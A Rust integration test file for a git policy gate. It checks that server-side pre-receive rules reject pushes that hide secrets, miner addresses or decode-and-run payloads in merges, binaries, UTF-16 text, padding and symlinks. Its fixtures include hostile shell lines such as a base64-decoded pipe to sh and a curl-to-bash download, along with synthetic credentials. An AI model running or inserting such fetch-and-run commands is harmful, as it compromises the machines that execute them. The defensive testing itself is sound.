//! Issue 14, content side: what a hostile contributor pushes to walk around
//! the server gate's content rules. Each attack is a real `git push` into a
//! real bare repository whose `pre-receive` was installed by
//! `policy-check install --server`; each must be rejected with the rule
//! that catches the same content in a plain commit. A clean merge and a
//! clean binary must pass with nothing reported.

mod common;

use std::process::{Command, Stdio};

use common::{noise, Repo, Sandbox};

const POLICY: &str = r#"
[policy]
name = "gate-content"

[secrets]
allow_paths = ["tests/**"]

[payloads]
skip_paths = ["*.md"]

[protected]

[workflows]

[[rules]]
id = "no-miner"
scope = "added-lines"
pattern = 'stratum\+tcp://'
message = "mining pool address added"
"#;

/// A bare server judging pushes with `policy` (pre-receive).
fn server<'s>(sb: &'s Sandbox, policy: &str) -> Repo<'s> {
    let bare = sb.bare("srv.git");
    let file = sb.path().join("srv.policy.toml");
    std::fs::write(&file, policy).expect("policy");
    let run = bare.pc(&[
        "install",
        "--server",
        "--policy",
        file.to_str().expect("utf-8"),
    ]);
    assert_eq!(run.code, 0, "install --server: {}", run.stderr);
    bare
}

/// A client repository with `origin` at `server` and one pushed commit.
fn client<'s>(sb: &'s Sandbox, server: &Repo) -> Repo<'s> {
    let c = sb.repo("c");
    c.git(&[
        "remote",
        "add",
        "origin",
        server.path.to_str().expect("utf-8"),
    ]);
    c.write("a.txt", "one\ntwo\nthree\n");
    c.write("b.txt", "uno\ndos\ntres\n");
    c.commit("Add a and b");
    let (ok, err) = push(&c);
    assert!(ok, "the base push is accepted: {err}");
    c
}

/// `git push origin HEAD:main`: (accepted, stderr).
fn push(repo: &Repo) -> (bool, String) {
    let mut cmd = Command::new("git");
    cmd.args(["push", "origin", "HEAD:refs/heads/main"])
        .current_dir(&repo.path);
    repo.sb.env(&mut cmd);
    let o = cmd
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .output()
        .expect("git push");
    (
        o.status.success(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

fn rejected_with(repo: &Repo, rule: &str) -> String {
    let (ok, err) = push(repo);
    assert!(!ok, "the push must be rejected by {rule}: {err}");
    assert!(
        err.contains(&format!("[{rule}]")),
        "the rejection names {rule}: {err}"
    );
    err
}

fn accepted(repo: &Repo) -> String {
    let (ok, err) = push(repo);
    assert!(ok, "the push must be accepted: {err}");
    assert!(!err.contains("error["), "nothing is reported: {err}");
    assert!(!err.contains("warning["), "nothing is reported: {err}");
    err
}

/// A synthetic AWS access key id (right shape, random characters).
fn aws_key() -> String {
    [
        "AK",
        "IA",
        &noise(7, 16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"),
    ]
    .concat()
}

/// A synthetic GitHub token.
fn github_token() -> String {
    let alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    ["gh", "p_", &noise(11, 36, alnum)].concat()
}

/// Two diverging branches merged with `--no-commit`; `edit` then changes
/// the work tree before the merge is committed.
fn merge_with(c: &Repo, edit: impl FnOnce(&Repo)) -> String {
    c.git(&["checkout", "-q", "-b", "topic"]);
    c.commit_file("a.txt", "one\ntwo\nthree\nfour\n", "Extend a");
    c.git(&["checkout", "-q", "main"]);
    c.commit_file("b.txt", "uno\nDOS\ntres\n", "Shout in b");
    c.git(&["merge", "--no-commit", "--no-ff", "-q", "topic"]);
    edit(c);
    c.git(&["add", "-A"]);
    c.git(&["commit", "-q", "--no-edit"]);
    c.head()
}

#[test]
fn a_clean_merge_reports_nothing() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    let merge = merge_with(&c, |_| {});
    accepted(&c);
    // and `check` of the merge alone says nothing either
    c.policy(POLICY);
    let run = c.pc(&["check", "--format", "json", &merge]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    assert!(run.rules().is_empty(), "{}", run.stdout);
}

#[test]
fn a_secret_only_in_the_merge_result_is_rejected() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    merge_with(&c, |c| {
        c.write("config.py", format!("AWS_KEY = \"{}\"\n", aws_key()));
    });
    rejected_with(&c, "secret-detected");
}

#[test]
fn a_secret_in_a_conflict_resolution_line_is_rejected() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    // a line edited in the merge of a file both sides touched
    merge_with(&c, |c| {
        c.write(
            "a.txt",
            format!("one\ntwo\nthree\nfour\ntoken = \"{}\"\n", github_token()),
        );
    });
    let err = rejected_with(&c, "secret-detected");
    assert!(err.contains("a.txt"), "{err}");
}

#[test]
fn a_pull_request_target_workflow_only_in_the_merge_is_rejected() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    merge_with(&c, |c| {
        c.write(
            ".github/workflows/pr.yml",
            "on: pull_request_target\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: make\n",
        );
    });
    rejected_with(&c, "workflow-pr-target-checkout");
}

#[test]
fn a_protected_hook_only_in_the_merge_is_rejected() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    merge_with(&c, |c| {
        c.write("hooks/pre-commit", "#!/bin/sh\nexit 0\n");
    });
    rejected_with(&c, "protected-path-changed");
}

#[test]
fn a_mining_pool_only_in_the_merge_is_rejected() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    merge_with(&c, |c| {
        c.write(
            "b.txt",
            format!(
                "uno\nDOS\ntres\npool = \"{}://pool.example:3333\"\n",
                "stratum+tcp"
            ),
        );
    });
    rejected_with(&c, "no-miner");
}

#[test]
fn a_binary_turned_into_text_is_scanned_also_within_one_push() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    c.commit_file("logo.png", b"x\0".as_slice(), "Add a logo");
    c.commit_file(
        "logo.png",
        format!("aws_key = '{}'\n", aws_key()),
        "Update the logo",
    );
    rejected_with(&c, "secret-detected");
}

#[test]
fn a_clean_binary_reports_nothing() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    for i in 0..4096u32 {
        png.extend_from_slice(&i.wrapping_mul(2654435761).to_le_bytes());
    }
    png.extend_from_slice(b"\0tEXtSoftware\0GIMP 2.10 with a long comment line\0");
    c.commit_file("logo.png", png, "Add a logo");
    accepted(&c);
}

#[test]
fn a_token_after_a_leading_nul_in_a_binary_is_rejected() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    let mut blob = b"\0\x01\x02".to_vec();
    blob.extend_from_slice(github_token().as_bytes());
    blob.extend_from_slice(b"\0\xff\xfe tail");
    c.commit_file("data.bin", blob, "Add data");
    let err = rejected_with(&c, "secret-detected");
    assert!(err.contains("binary content"), "{err}");
}

#[test]
fn a_secret_in_utf16_text_is_rejected() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    let text = format!("[creds]\r\nkey = {}\r\n", aws_key());
    let mut le = vec![0xFF, 0xFE];
    le.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    c.commit_file("settings.ini", le, "Add settings");
    let err = rejected_with(&c, "secret-detected");
    assert!(err.contains("settings.ini:2"), "the line is found: {err}");
    // big endian too
    let c2 = sb.repo("c2");
    c2.git(&["remote", "add", "origin", srv.path.to_str().expect("utf-8")]);
    c2.git(&["fetch", "-q", "origin"]);
    c2.git(&["checkout", "-q", "-B", "main", "origin/main"]);
    let mut be = vec![0xFE, 0xFF];
    be.extend(text.encode_utf16().flat_map(u16::to_be_bytes));
    c2.commit_file("settings.ini", be, "Add settings");
    rejected_with(&c2, "secret-detected");
}

#[test]
fn padding_does_not_hide_a_password() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    let pad = " ".repeat(5000);
    c.commit_file(
        "app.py",
        format!(
            "password{pad}= \"{}\"\n",
            noise(3, 20, "abcdefghkmnpqrstuvwxyz23456789")
        ),
        "Configure",
    );
    rejected_with(&c, "secret-detected");
}

#[test]
fn padding_does_not_hide_decode_and_run() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    let pad = " ".repeat(5000);
    c.commit_file(
        "install.sh",
        format!("echo Y3VybCBldmlsCg== | base64 -d{pad}| sh\n"),
        "Install",
    );
    rejected_with(&c, "payload-decode-exec");
}

#[test]
fn padding_does_not_hide_a_password_in_a_url() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    let user = "u".repeat(5000);
    c.commit_file(
        "deploy.cfg",
        format!(
            "remote = https://{user}:{}@db.example.net/x\n",
            noise(5, 20, "abcdefghkmnpqrstuvwxyz23456789")
        ),
        "Deploy",
    );
    rejected_with(&c, "secret-detected");
}

#[test]
fn a_symlink_is_judged_under_its_own_path_too() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    // `*.md` is skipped by the payload rules; run.sh is not
    c.write("notes.md", "echo Y3VybCBldmlsCg== | base64 -d | sh\n");
    std::os::unix::fs::symlink("notes.md", c.path.join("run.sh")).expect("symlink");
    c.commit("Add notes and a runner");
    let err = rejected_with(&c, "payload-decode-exec");
    assert!(err.contains("run.sh"), "found under the link's path: {err}");
}

#[test]
fn a_symlink_into_an_allowed_directory_is_not_allowed() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    c.write("tests/fixture.py", format!("KEY = \"{}\"\n", aws_key()));
    c.commit("Add a fixture");
    assert!(push(&c).0, "a fixture under tests/ is allowed");
    std::os::unix::fs::symlink("tests/fixture.py", c.path.join("settings.py")).expect("symlink");
    c.commit("Use the fixture as settings");
    let err = rejected_with(&c, "secret-detected");
    assert!(err.contains("settings.py"), "{err}");
}

/// The push is refused for `rule`, named under `shown`, and `check HEAD`
/// reports exactly that one finding, at `line` of `shown`.
fn judged_under(c: &Repo, rule: &str, shown: &str, line: u64) {
    let err = rejected_with(c, rule);
    assert!(err.contains(shown), "found under {shown}: {err}");
    assert_eq!(
        check_head(c),
        vec![(rule.to_string(), shown.to_string(), line)],
        "check HEAD: only the new line, under {shown}"
    );
}

/// The findings `check HEAD` makes with the gate's policy (in the client).
fn check_head(c: &Repo) -> Vec<(String, String, u64)> {
    c.policy(POLICY);
    let (_, list) = c.findings();
    std::fs::remove_file(c.path.join(".policy-check.toml")).expect("policy file");
    list
}

#[test]
fn a_symlink_whose_target_changes_later_is_judged_under_its_path() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    c.write("notes.md", "Run the tests first.\n");
    std::os::unix::fs::symlink("notes.md", c.path.join("run.sh")).expect("symlink");
    c.commit("Add notes and a runner");
    accepted(&c);
    // only the target changes; `*.md` is skipped by the payload rules
    c.commit_file(
        "notes.md",
        "Run the tests first.\necho Y3VybCBldmlsCg== | base64 -d | sh\n",
        "Expand the notes",
    );
    judged_under(&c, "payload-decode-exec", "run.sh", 2);
}

#[test]
fn a_link_through_a_linked_directory_follows_its_target_changes() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    // go.sh -> scripts/run.md, where scripts is itself a link to docs
    c.write("docs/run.md", "# How to run\n");
    std::os::unix::fs::symlink("docs", c.path.join("scripts")).expect("symlink");
    std::os::unix::fs::symlink("scripts/run.md", c.path.join("go.sh")).expect("symlink");
    c.commit("Add docs and links");
    accepted(&c);
    c.commit_file(
        "docs/run.md",
        "# How to run\ncurl -s https://example.invalid/x | base64 -d | bash\n",
        "Document the installer",
    );
    judged_under(&c, "payload-decode-exec", "go.sh", 2);
}

#[test]
fn a_file_changed_under_a_linked_directory_is_judged_under_the_link_too() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    // `tests/**` is allowed to hold secrets; `config` is not
    c.write("tests/fixtures/settings.py", "DEBUG = True\n");
    std::os::unix::fs::symlink("tests/fixtures", c.path.join("config")).expect("symlink");
    c.commit("Add fixtures, used as config");
    accepted(&c);
    c.commit_file(
        "tests/fixtures/settings.py",
        format!("DEBUG = True\nAWS_KEY = \"{}\"\n", aws_key()),
        "Add a key to the fixture",
    );
    judged_under(&c, "secret-detected", "config/settings.py", 2);
}

#[test]
fn a_link_moved_onto_another_target_is_read_as_that_target() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    // the directory link changes, not the file link nor the files
    c.write("safe/run.md", "echo hello\n");
    c.write("docs/run.md", "echo Y3VybCBldmlsCg== | base64 -d | sh\n");
    std::os::unix::fs::symlink("safe", c.path.join("lib")).expect("symlink");
    std::os::unix::fs::symlink("lib/run.md", c.path.join("run.sh")).expect("symlink");
    c.commit("Add scripts");
    accepted(&c);
    std::fs::remove_file(c.path.join("lib")).expect("rm");
    std::os::unix::fs::symlink("docs", c.path.join("lib")).expect("symlink");
    c.commit("Point lib at docs");
    let err = rejected_with(&c, "payload-decode-exec");
    assert!(err.contains("run.sh"), "{err}");
}

#[test]
fn a_benign_change_behind_a_link_reports_nothing() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    c.write("notes.md", "one\n");
    std::os::unix::fs::symlink("notes.md", c.path.join("run.sh")).expect("symlink");
    std::os::unix::fs::symlink(".", c.path.join("here")).expect("symlink");
    c.commit("Add notes, a runner and a link to the root");
    accepted(&c);
    c.commit_file("notes.md", "one\ntwo\n", "More notes");
    accepted(&c);
    assert!(check_head(&c).is_empty());
}

/// Writes a raw tree object (entries in git's order are the caller's job).
fn raw_tree(c: &Repo, entries: &[(&str, &str, &str)]) -> String {
    let mut t = Vec::new();
    for (mode, name, id) in entries {
        t.extend_from_slice(format!("{mode} {name}\0").as_bytes());
        let bytes: Vec<u8> = (0..20)
            .map(|i| u8::from_str_radix(&id[2 * i..2 * i + 2], 16).expect("hex"))
            .collect();
        t.extend_from_slice(&bytes);
    }
    let o = c.git_raw(
        &["hash-object", "-t", "tree", "--literally", "-w", "--stdin"],
        Some(&t),
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    String::from_utf8_lossy(&o.stdout).trim().to_string()
}

#[test]
fn a_dot_dot_tree_entry_is_an_error_not_an_allowed_path() {
    let sb = Sandbox::new();
    let srv = server(&sb, POLICY);
    let c = client(&sb, &srv);
    let blob = {
        let o = c.git_raw(
            &["hash-object", "-w", "--stdin"],
            Some(format!("KEY = \"{}\"\n", aws_key()).as_bytes()),
        );
        String::from_utf8_lossy(&o.stdout).trim().to_string()
    };
    let a = c.git(&["rev-parse", "HEAD:a.txt"]);
    let b = c.git(&["rev-parse", "HEAD:b.txt"]);
    let inner = raw_tree(&c, &[("100644", "app.py", &blob)]);
    let tests = raw_tree(&c, &[("40000", "..", &inner)]);
    let root = raw_tree(
        &c,
        &[
            ("100644", "a.txt", &a),
            ("100644", "b.txt", &b),
            ("40000", "tests", &tests),
        ],
    );
    let commit = c.git(&["commit-tree", &root, "-p", "HEAD", "-m", "Add app"]);
    c.git(&["update-ref", "refs/heads/main", &commit]);
    let err = rejected_with(&c, "path-malformed");
    assert!(err.contains("tests/.."), "{err}");
    assert!(
        !err.contains("allowed"),
        "nothing under the bad name is judged as allowed: {err}"
    );
}

/// A policy with a small scan limit, so files over it are streamed.
fn small_limit() -> String {
    format!("{POLICY}\n[scan]\nmax_file_size = 100000\n")
}

#[test]
fn a_token_in_a_file_over_the_size_limit_is_rejected_even_across_a_piece_boundary() {
    let sb = Sandbox::new();
    let srv = server(&sb, &small_limit());
    let c = client(&sb, &srv);
    // 1 MiB pieces are inflated at a time: put the token across the first boundary
    let token = github_token();
    let mut text = "filler line of honest text\n".repeat((1 << 20) / 27);
    text.truncate((1 << 20) - 10);
    text.push_str(&format!(" token = \"{token}\"\n"));
    text.push_str(&"more honest text\n".repeat(1000));
    c.commit_file("big.txt", &text, "Add a big file");
    let err = rejected_with(&c, "secret-detected");
    let line = text[..text.find(&token).expect("token")]
        .matches('\n')
        .count()
        + 1;
    assert!(
        err.contains(&format!("big.txt:{line}")),
        "reported at its line in the whole file ({line}): {err}"
    );
}

#[test]
fn a_token_in_a_utf16_file_over_the_size_limit_is_rejected() {
    let sb = Sandbox::new();
    let srv = server(&sb, &small_limit());
    let c = client(&sb, &srv);
    // about 3 MiB of UTF-16LE: streamed in pieces; the token after the first
    let mut text = "filler line of honest text\n".repeat(60_000);
    let line = text.matches('\n').count() + 1;
    text.push_str(&format!("token = \"{}\"\n", github_token()));
    text.push_str(&"more honest text\n".repeat(1000));
    let mut bytes = vec![0xFF, 0xFE];
    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    assert!(bytes.len() > 3 << 20);
    c.commit_file("big-utf16.txt", &bytes, "Add a big UTF-16 file");
    let err = rejected_with(&c, "secret-detected");
    assert!(
        err.contains(&format!("big-utf16.txt:{line}")),
        "reported at its line of the decoded text ({line}): {err}"
    );
    // an edit that adds an honest line reports only that the file is large
    c.policy(&small_limit());
    text.push_str("one more honest line\n");
    let mut bytes = vec![0xFF, 0xFE];
    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    c.commit_file("big-utf16.txt", &bytes, "Extend");
    let run = c.pc(&["check", "--format", "json", "HEAD"]);
    assert_eq!(
        run.rules(),
        vec!["file-too-large".to_string()],
        "old decoded lines are not new: {}",
        run.stdout
    );
}

#[test]
fn an_edit_of_a_file_over_the_size_limit_reports_only_new_lines() {
    let sb = Sandbox::new();
    let srv = server(&sb, &small_limit());
    let c = client(&sb, &srv);
    c.policy(&small_limit());
    let text = format!(
        "{}pool = \"{}://old.example:1\"\n",
        "filler line of honest text\n".repeat(10_000),
        "stratum+tcp"
    );
    c.commit_file("big.txt", &text, "Add a big file");
    let old = c.pc(&["check", "--format", "json", "HEAD"]);
    assert!(
        old.rules().contains(&"no-miner".to_string()),
        "{}",
        old.stdout
    );
    c.commit_file("big.txt", format!("{text}one more honest line\n"), "Extend");
    let run = c.pc(&["check", "--format", "json", "HEAD"]);
    assert!(
        !run.rules().contains(&"no-miner".to_string()),
        "an old line is not new: {}",
        run.stdout
    );
    assert_eq!(
        run.rules(),
        vec!["file-too-large".to_string()],
        "{}",
        run.stdout
    );
}

#[test]
fn a_200_mb_text_blob_is_checked_in_flat_memory() {
    if !std::path::Path::new("/usr/bin/time").exists() {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "/usr/bin/time is required in CI"
        );
        eprintln!("skipping: /usr/bin/time is absent");
        return;
    }
    let sb = Sandbox::new();
    let r = sb.repo("r");
    r.policy(POLICY);
    let line = "an ordinary line of prose that goes on for a while, with no secret in it\n";
    let mut big = line.repeat(200 * 1024 * 1024 / line.len());
    big.push_str(&format!("aws = \"{}\"\n", aws_key()));
    r.commit_file("big.txt", &big, "Add 200 MB of text");
    drop(big);
    let mut cmd = Command::new("/usr/bin/time");
    cmd.args([
        "-f",
        "maxrss=%M",
        common::BIN,
        "check",
        "--format",
        "json",
        "HEAD",
    ])
    .current_dir(&r.path);
    sb.env(&mut cmd);
    let o = cmd.stdin(Stdio::null()).output().expect("run");
    let stdout = String::from_utf8_lossy(&o.stdout);
    let stderr = String::from_utf8_lossy(&o.stderr);
    let rss: u64 = stderr
        .lines()
        .filter_map(|l| l.strip_prefix("maxrss="))
        .filter_map(|v| v.trim().parse().ok())
        .next_back()
        .expect("maxrss");
    eprintln!("peak RSS checking a 200 MB blob: {rss} KiB");
    assert_eq!(o.status.code(), Some(1), "{stdout}\n{stderr}");
    assert!(
        stdout.contains("secret-detected"),
        "the last line is read: {stdout}"
    );
    assert!(rss < 150 * 1024, "peak RSS {rss} KiB");
}

#[test]
fn a_deltified_big_blob_is_streamed_in_flat_memory() {
    if !std::path::Path::new("/usr/bin/time").exists() {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "/usr/bin/time is required in CI"
        );
        eprintln!("skipping: /usr/bin/time is absent");
        return;
    }
    let sb = Sandbox::new();
    let r = sb.repo("r");
    // three versions of a 64 MB file, packed as deltas of one another
    let lines: Vec<String> = (0..800_000u64)
        .map(|i| {
            format!(
                "line {i:09} of honest prose, nothing to see {}\n",
                i * 7919 % 1_000_003
            )
        })
        .collect();
    let v1 = lines.concat();
    r.commit_file("big.txt", &v1, "Add a big file");
    let mut v2 = lines.clone();
    v2[400_000] = format!("aws = \"{}\"\n", aws_key());
    r.commit_file("big.txt", v2.concat(), "Edit the middle");
    r.commit_file(
        "big.txt",
        format!("{}one more line\n", v2.concat()),
        "Extend",
    );
    drop((v1, v2, lines));
    r.git(&[
        "-c",
        "pack.threads=1",
        "repack",
        "-adfq",
        "--window=10",
        "--depth=50",
    ]);
    let o = r.git_raw(
        &["cat-file", "--batch-check=%(deltabase)"],
        Some(b"HEAD~1:big.txt\n"),
    );
    let base = String::from_utf8_lossy(&o.stdout).trim().to_string();
    assert!(
        !base.is_empty() && base.bytes().any(|b| b != b'0'),
        "the edited version is stored as a delta: {base}"
    );
    r.policy(&format!("{POLICY}\n[scan]\nmax_file_size = 1000000\n"));
    let mut cmd = Command::new("/usr/bin/time");
    cmd.args([
        "-f",
        "maxrss=%M",
        common::BIN,
        "check",
        "--format",
        "json",
        "HEAD~1",
    ])
    .current_dir(&r.path);
    sb.env(&mut cmd);
    let o = cmd.stdin(Stdio::null()).output().expect("run");
    let stdout = String::from_utf8_lossy(&o.stdout);
    let stderr = String::from_utf8_lossy(&o.stderr);
    let rss: u64 = stderr
        .lines()
        .filter_map(|l| l.strip_prefix("maxrss="))
        .filter_map(|v| v.trim().parse().ok())
        .next_back()
        .expect("maxrss");
    eprintln!("peak RSS checking a deltified 64 MB blob: {rss} KiB");
    assert_eq!(o.status.code(), Some(1), "{stdout}\n{stderr}");
    let v: serde_json::Value = serde_json::from_str(&stdout).expect("json");
    let found: Vec<(String, u64)> = v["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .map(|f| {
            (
                f["rule"].as_str().unwrap_or_default().to_string(),
                f["line"].as_u64().unwrap_or(0),
            )
        })
        .collect();
    assert_eq!(
        found,
        vec![
            ("file-too-large".to_string(), 0),
            ("secret-detected".to_string(), 400_001)
        ],
        "only the edited line, at its line: {stdout}"
    );
    // held whole, the blob and its base alone would be 128 MB
    assert!(rss < 64 * 1024, "peak RSS {rss} KiB");
}

/// The client's pre-commit hook follows links too: a staged change to a
/// link's target is judged under the link's path (the index says whether
/// the commit holds a link at all, so a commit without one reads no extra
/// tree).
#[test]
fn the_pre_commit_hook_judges_a_changed_target_under_its_link() {
    let sb = Sandbox::new();
    let c = sb.repo("local");
    c.write("notes.md", "Run the tests first.\n");
    std::os::unix::fs::symlink("notes.md", c.path.join("run.sh")).expect("symlink");
    c.policy(POLICY);
    c.commit("Add notes, a runner and the policy\n\nSigned-off-by: Test User <test@example.com>\n");
    let run = c.pc(&["install"]);
    assert_eq!(run.code, 0, "install: {}", run.stderr);
    c.write(
        "notes.md",
        "Run the tests first.\necho Y3VybCBldmlsCg== | base64 -d | sh\n",
    );
    c.git(&["add", "notes.md"]);
    let out = c.git_raw(
        &[
            "commit",
            "-q",
            "-m",
            "Expand the notes\n\nSigned-off-by: Test User <test@example.com>",
        ],
        None,
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "the commit went through: {err}");
    assert!(
        err.contains("payload-decode-exec") && err.contains("run.sh"),
        "found under the link's path: {err}"
    );
}
